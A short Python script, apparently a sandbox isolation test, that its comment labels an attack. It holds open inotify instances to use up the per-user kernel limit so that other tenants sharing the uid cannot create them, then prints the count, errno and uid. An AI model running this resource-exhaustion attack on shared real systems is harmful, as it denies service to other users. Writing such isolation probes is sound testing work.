# Attack: use up a per-uid kernel counter for every other tenant. Linux
# counts inotify instances per user across the whole host
# (fs.inotify.max_user_instances, 128 by default): if every job ran as the
# same host uid, a sandbox holding them all would make inotify_init fail
# for every other job. Run in a sandbox, the instances stay open between
# calls (kept in a global). Prints "held N stopped ERRNO uid UID".
import ctypes
import errno
import os

libc = ctypes.CDLL(None, use_errno=True)
held = []
err = 0
while len(held) < 4096:
    fd = libc.inotify_init1(0)
    if fd < 0:
        err = ctypes.get_errno()
        break
    held.append(fd)
print("held", len(held), "stopped", errno.errorcode.get(err, str(err)), "uid", os.getuid())
